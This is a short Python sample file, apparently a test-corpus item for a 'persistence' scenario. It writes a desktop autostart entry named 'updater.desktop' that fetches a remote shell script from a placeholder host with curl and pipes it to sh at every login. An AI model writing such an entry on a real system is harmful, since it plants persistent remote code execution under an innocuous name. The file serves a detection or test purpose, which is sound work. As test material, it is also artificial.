# scenario: 06 write-risky-content-into-files
# expect: persistence
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Registers a desktop autostart entry that runs a downloaded script at login.
import os

d = os.path.expanduser("~/.config/autostart")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "updater.desktop"), "w") as f:
    f.write("[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://x.example.net/u.sh | sh'\n")
print("autostart entry written")
